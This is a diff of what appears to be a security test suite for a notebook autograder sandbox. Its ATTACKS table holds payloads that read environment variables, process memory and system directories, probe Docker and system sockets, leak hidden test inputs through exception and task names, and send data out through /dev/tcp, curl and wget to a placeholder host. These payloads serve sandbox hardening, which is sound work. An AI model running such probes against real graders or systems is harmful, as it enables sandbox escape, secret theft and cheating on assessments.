@@ -9,7 +9,7 @@ from typing import Any
 
 import pytest
 
-pytestmark = [pytest.mark.slow, pytest.mark.timeout(600)]
+pytestmark = [pytest.mark.slow, pytest.mark.timeout(1500)]
 
 SEARCH = r"""
 import os, re, sys
@@ -79,19 +79,22 @@ def _folder_is_a_link(folder: Path) -> None:
 ATTACKS: dict[str, dict[str, Any]] = {
     # -- files, environment, processes ---------------------------------------------------------------------
     "reads-the-course": {
+        "seat": "looks-around",
         "last": SEARCH
         + """
 for place in ("@ROOT@", os.path.dirname("@ROOT@"), "@HOME@", "/tmp", "/dev/shm", "/run", "/var", "/home", "/root",
               "/etc", "/srv", "/mnt", "/opt", os.getcwd()):
     look(place)
 print("VISTO", found)
-"""
+""",
     },
     "reads-the-notebook": {
+        "seat": "looks-around",
         "last": SEARCH
-        + "print('VISTO', [n for n in os.listdir() if n.endswith('.ipynb')])\nlook('.')\nprint(found)"
+        + "print('VISTO', [n for n in os.listdir() if n.endswith('.ipynb')])\nlook('.')\nprint(found)",
     },
     "reads-the-environment": {
+        "seat": "looks-around",
         "last": SEARCH
         + """
 print(dict(os.environ))
@@ -106,9 +109,10 @@ for pid in os.listdir("/proc"):
 look("/proc/self/root/@ROOT@")
 look("/proc/1/root/@ROOT@")
 print(found)
-"""
+""",
     },
     "reads-memory": {
+        "seat": "looks-around",
         "last": """
 import re
 for line in open("/proc/self/maps"):
@@ -122,9 +126,9 @@ for line in open("/proc/self/maps"):
                     print(hits)
         except (OSError, ValueError, OverflowError):
             pass
-"""
+""",
     },
-    "writes-the-course": {"last": WRITES},
+    "writes-the-course": {"seat": "looks-around", "last": WRITES},
     "links": {
         "put": _links,
         "last": SEARCH
@@ -142,6 +146,7 @@ os.symlink("@ROOT@", "autograded")
     },
     # -- the network ---------------------------------------------------------------------------------------
     "network": {
+        "seat": "looks-around",
         "last": """
 import socket
 for host in ("127.0.0.1", "@HOST@", "localhost", "::1"):
@@ -155,9 +160,10 @@ for host in ("127.0.0.1", "@HOST@", "localhost", "::1"):
                     print("MANDADO" if kind == socket.SOCK_STREAM else "")
             except OSError as error:
                 print(error)
-"""
+""",
     },
     "network-by-name": {
+        "seat": "looks-around",
         "last": """
 import socket, urllib.request
 socket.setdefaulttimeout(1)
@@ -168,17 +174,19 @@ for call in (lambda: socket.getaddrinfo("example.org", 80), lambda: urllib.reque
         print("MANDADO", call())
     except OSError as error:
         print(error)
-"""
+""",
     },
     "network-from-a-child": {
+        "seat": "looks-around",
         "last": """
 import subprocess
 print(subprocess.run(["/bin/sh", "-c", "(echo secreto > /dev/tcp/@HOST@/@PORT@) 2>&1; "
     "curl -m 2 -s http://@HOST@:@PORT@/; wget -T 2 -q -O - http://@HOST@:@PORT@/; unshare -rn true; ip link"],
     capture_output=True, text=True))
-"""
+""",
     },
     "sockets-of-the-machine": {
+        "seat": "looks-around",
         "last": """
 import glob, socket
 for name in ("/var/run/docker.sock", "/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private",
@@ -189,7 +197,7 @@ for name in ("/var/run/docker.sock", "/run/docker.sock", "/run/dbus/system_bus_s
         print("CONECTADO", name)
     except OSError:
         pass
-"""
+""",
     },
     # -- hidden tests, as they pass by ---------------------------------------------------------------------
     "prints-its-inputs": {
@@ -203,6 +211,7 @@ for name in ("/var/run/docker.sock", "/run/docker.sock", "/run/dbus/system_bus_s
         "points": 1,
     },
     "raises-a-class-named-so": {
+        "seat": "tells-by-errors",
         "answers": {"doble": "def doble(n):\n    raise type(f'Visto{n}', (Exception,), {})()"},
     },
     "returns-its-inputs": {
@@ -210,6 +219,7 @@ for name in ("/var/run/docker.sock", "/run/docker.sock", "/run/dbus/system_bus_s
         "points": 1,
     },
     "names-tasks-by-its-inputs": {
+        "seat": "tells-by-errors",
         "answers": {
             "juntos": """
 import asyncio, sys
@@ -221,7 +231,7 @@ async def juntos(trabajos):
     tareas = [asyncio.create_task(t(), name="-".join(s for s in seen if "_de_" in s)) for t in trabajos]
     return [await t for t in tareas] + [0]
 """
-        }
+        },
     },
     "tells-later": {
         # What a hidden test asked is kept and printed by the next cell of the learner's own.
